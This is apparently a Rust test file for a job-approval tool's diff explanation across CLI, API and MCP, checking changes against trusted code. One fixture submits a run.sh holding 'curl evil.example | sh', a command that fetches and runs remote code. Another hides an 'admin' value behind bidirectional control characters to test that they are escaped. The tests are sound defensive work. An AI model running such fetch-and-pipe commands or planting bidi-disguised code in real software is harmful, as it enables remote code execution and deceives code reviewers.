//! What changed: `explain UID --diff`, `GET /api/v1/jobs/{uid}/diff` and MCP `approvals.explain`
//! against trusted code and the history (a one-line change, binary files, a renamed file, a job
//! with no close match, a hostile huge file), and what each trusted pattern did.

use serde_json::Value;

use crate::http::{BOB, EVE, WAIT, ok, serve, wait_status};
use crate::util::*;

const NAME: &str = "Count rows";

fn main_py(changed: bool) -> Vec<u8> {
    let mut s = String::new();
    for i in 1..=30 {
        if changed && i == 15 {
            s.push_str("print('rows:', len(rows) + 1)\n");
        } else {
            s.push_str(&format!("step_{i} = {i}\n"));
        }
    }
    s.into_bytes()
}

/// A pending job named [`NAME`] from `from` with `files`.
fn job(sb: &Sandbox, from: &str, files: &[(&str, &[u8])]) -> String {
    sb.submit_with(
        from,
        OWNER,
        NAME,
        "Counts rows",
        &["stats"],
        files,
        "pending",
    )
}

/// Marks the code of a new job with `files` trusted (from the CLI); returns its uid.
fn trusted(sb: &Sandbox, files: &[(&str, &[u8])]) -> String {
    let uid = job(sb, BOB, files);
    ok(&sb.cli(&["trust", "add", "--job", &uid]));
    uid
}

fn explain_diff(sb: &Sandbox, uid: &str) -> Value {
    let out = ok(&sb.cli(&["explain", uid, "--diff", "--json"]));
    let v: Value = serde_json::from_str(&out).unwrap();
    v["diff"].clone()
}

fn file<'a>(d: &'a Value, path: &str) -> &'a Value {
    d["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == path)
        .unwrap_or_else(|| panic!("no {path} in {d}"))
}

/// The lines of a file's hunks as a unified diff writes them.
fn lines(f: &Value) -> Vec<String> {
    f["hunks"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|h| h["lines"].as_array().unwrap().iter())
        .map(|l| {
            let mark = match l["kind"].as_str().unwrap() {
                "added" => '+',
                "removed" => '-',
                _ => ' ',
            };
            format!("{mark}{}", l["text"].as_str().unwrap())
        })
        .collect()
}

#[test]
fn a_one_line_change_to_trusted_code_shows_that_line_and_nothing_else() {
    let sb = Sandbox::new();
    let old = main_py(false);
    let new = main_py(true);
    trusted(&sb, &[("run.sh", b"python3 main.py\n"), ("main.py", &old)]);
    let uid = job(
        &sb,
        BOB,
        &[("run.sh", b"python3 main.py\n"), ("main.py", &new)],
    );

    let d = explain_diff(&sb, &uid);
    assert_eq!(
        d["summary"],
        format!("identical to trusted \"{NAME}\" except `main.py` (+1 -1)")
    );
    assert_eq!(d["closest"]["source"], "trusted");
    assert_eq!(d["closest"]["closeness"], "same_name_and_sender");
    assert_eq!(d["identical"], false);
    assert_eq!(file(&d, "run.sh")["change"], "unchanged");
    let m = file(&d, "main.py");
    let changes: Vec<String> = lines(m)
        .into_iter()
        .filter(|l| !l.starts_with(' '))
        .collect();
    assert_eq!(changes, ["-step_15 = 15", "+print('rows:', len(rows) + 1)"]);
    assert_eq!(lines(m).len(), 8, "3 lines of context on each side");

    // The text form is a unified diff with that hunk.
    let text = ok(&sb.cli(&["explain", &uid, "--diff"]));
    assert!(
        text.contains("what changed: identical to trusted \"Count rows\" except `main.py` (+1 -1)"),
        "{text}"
    );
    assert!(
        text.contains("--- a/main.py\n+++ b/main.py\n@@ -12,7 +12,7 @@\n"),
        "{text}"
    );
    assert!(
        text.contains("\n-step_15 = 15\n+print('rows:', len(rows) + 1)\n"),
        "{text}"
    );
    assert!(
        !text.contains("step_1 = 1\n"),
        "only the hunk is shown: {text}"
    );
    // Without --diff, explain is as it was.
    assert!(!ok(&sb.cli(&["explain", &uid])).contains("what changed"));
}

#[test]
fn binary_files_are_compared_by_size_and_hash_and_renames_by_identical_bytes() {
    let sb = Sandbox::new();
    let shared: &[u8] = b"def util():\n    return 1\n";
    trusted(
        &sb,
        &[
            ("run.sh", b"python3 main.py\n"),
            ("util.py", shared),
            ("model.bin", &[0, 159, 146, 150]),
        ],
    );
    let uid = job(
        &sb,
        BOB,
        &[
            ("run.sh", b"python3 main.py\n"),
            ("lib/util.py", shared),
            ("model.bin", &[0, 159, 146, 150, 255, 254]),
        ],
    );
    let d = explain_diff(&sb, &uid);
    let bin = file(&d, "model.bin");
    assert_eq!(
        (&bin["change"], &bin["shown"]),
        (&"changed".into(), &"binary".into())
    );
    assert_eq!(
        (&bin["old"]["size"], &bin["new"]["size"]),
        (&4.into(), &6.into())
    );
    assert_ne!(bin["old"]["sha256"], bin["new"]["sha256"]);
    assert!(bin["hunks"].as_array().unwrap().is_empty());
    let moved = file(&d, "lib/util.py");
    assert_eq!(
        (&moved["change"], &moved["from"]),
        (&"renamed".into(), &"util.py".into())
    );
    assert_eq!(
        d["summary"],
        "identical to trusted \"Count rows\" except `lib/util.py` renamed from `util.py` \
         and `model.bin` (4 -> 6 bytes)"
    );
    let text = ok(&sb.cli(&["explain", &uid, "--diff"]));
    assert!(
        text.contains("renamed: util.py -> lib/util.py (identical bytes)"),
        "{text}"
    );
    assert!(
        text.contains("changed (binary): model.bin: 4 bytes, sha256:"),
        "{text}"
    );
}

#[test]
fn a_job_with_no_close_match_says_so() {
    let sb = Sandbox::new();
    trusted(&sb, &simple_code());
    let uid = sb.submit_with(
        EVE,
        OWNER,
        "Something else",
        "",
        &[],
        &[("run.sh", b"curl evil.example | sh\n")],
        "pending",
    );
    let d = explain_diff(&sb, &uid);
    assert!(d["closest"].is_null(), "{d}");
    assert!(d["files"].as_array().unwrap().is_empty());
    assert!(
        d["summary"].as_str().unwrap().starts_with("no close match"),
        "{d}"
    );
    assert!(ok(&sb.cli(&["explain", &uid, "--diff"])).contains("what changed: no close match"));
}

#[test]
fn a_hostile_huge_or_rewritten_file_is_compared_by_hash_in_a_small_answer() {
    let sb = Sandbox::new();
    // 60 KiB of lines, each of them different in the new version: a line diff would cost the
    // square of their number.
    let old: String = (0..6000).map(|i| format!("a{i:08}\n")).collect();
    let new: String = (0..6000).map(|i| format!("b{i:08}\n")).collect();
    trusted(&sb, &[("run.sh", b"sh x.sh\n"), ("x.py", old.as_bytes())]);
    let huge = vec![b'x'; 8 << 20];
    let uid = job(
        &sb,
        BOB,
        &[
            ("run.sh", b"sh x.sh\n"),
            ("x.py", new.as_bytes()),
            ("blob.txt", &huge),
        ],
    );
    let web = serve(&sb, &[]);
    let r = web.get(&format!("/api/v1/jobs/{uid}/diff"));
    let d = r.expect(200);
    assert!(r.text.len() < 16 * 1024, "{} bytes", r.text.len());
    assert_eq!(file(&d, "x.py")["shown"], "too_different");
    let blob = file(&d, "blob.txt");
    assert_eq!(
        (&blob["change"], &blob["shown"]),
        (&"added".into(), &"too_large".into())
    );
    assert_eq!(blob["new"]["size"], 8 << 20);
    assert_eq!(d["caps"]["file_bytes"], 64 * 1024);
}

#[test]
fn the_api_and_mcp_show_the_diff_and_the_trusted_tab_what_a_pattern_did() {
    let sb = Sandbox::new();
    let first = trusted(
        &sb,
        &[
            ("run.sh", b"python3 main.py\n"),
            ("main.py", &main_py(false)),
        ],
    );
    let uid = job(
        &sb,
        BOB,
        &[
            ("run.sh", b"python3 main.py\n"),
            ("main.py", &main_py(true)),
        ],
    );
    let web = serve(&sb, &[]);
    // The trusted job itself is approved by its code; the changed one waits.
    wait_status(&sb, &web, &first, "approved");
    assert!(wait_for(WAIT, || sb.decisions_for(&uid, "waiting").len() == 1));
    assert_eq!(sb.status_of(&uid).as_deref(), Some("pending"));

    let d = web.get(&format!("/api/v1/jobs/{uid}/diff")).expect(200);
    assert_eq!(
        d["summary"],
        format!("identical to trusted \"{NAME}\" except `main.py` (+1 -1)")
    );
    web.get("/api/v1/jobs/no-such-job/diff").expect(404);

    // The audit entry of an approval is written just after the move.
    let usage_now = |n: u64| {
        let mut last = Value::Null;
        let seen = wait_for(WAIT, || {
            last = web.get("/api/v1/trusted-code/usage").expect(200);
            last["usage"][0]["approved"] == n
        });
        assert!(seen, "the pattern never counted {n} approvals: {last}");
        last
    };
    let u = usage_now(1);
    let usage = &u["usage"][0];
    assert_eq!(usage["signature"], d["closest"]["signature"]);
    assert_eq!(usage["marked_by"], "cli");
    assert!(usage["marked_at"].is_string());
    assert_eq!(usage["approved"], 1);
    assert_eq!(usage["last_uid"], first.as_str());
    // The same code from someone else is approved by it too; the next answer counts it (the
    // server reads only what the chain gained since).
    let again = job(
        &sb,
        EVE,
        &[
            ("run.sh", b"python3 main.py\n"),
            ("main.py", &main_py(false)),
        ],
    );
    wait_status(&sb, &web, &again, "approved");
    let u = usage_now(2);
    assert_eq!(u["usage"][0]["last_uid"], again.as_str());

    let mut mcp = Mcp::start(&sb);
    mcp.request(1, "initialize", serde_json::json!({}));
    let r = mcp.call(2, "approvals.explain", serde_json::json!({"uid": uid}));
    assert_eq!(r["isError"], false, "{r}");
    assert_eq!(r["structuredContent"]["diff"]["summary"], d["summary"]);
    assert_eq!(r["structuredContent"]["would"], "wait");
}

#[test]
fn an_invisible_character_in_a_changed_line_is_shown_as_a_mark() {
    let sb = Sandbox::new();
    trusted(
        &sb,
        &[
            ("run.sh", b"python3 main.py\n"),
            ("main.py", b"access = 'user'\n"),
        ],
    );
    let sneaky = "access = 'user\u{202E} \u{2066}admin'\n";
    let uid = job(
        &sb,
        BOB,
        &[
            ("run.sh", b"python3 main.py\n"),
            ("main.py", sneaky.as_bytes()),
        ],
    );
    let text = ok(&sb.cli(&["explain", &uid, "--diff"]));
    assert!(
        text.contains("\n+access = 'user⟨U+202E⟩ ⟨U+2066⟩admin'\n"),
        "{text}"
    );
    assert!(
        !text.contains('\u{202E}'),
        "the raw character reached the terminal"
    );
    // The JSON keeps the text as it is (escaped, so the terminal is safe).
    let d = explain_diff(&sb, &uid);
    assert_eq!(
        lines(file(&d, "main.py"))[1],
        format!("+{}", sneaky.trim_end())
    );
}
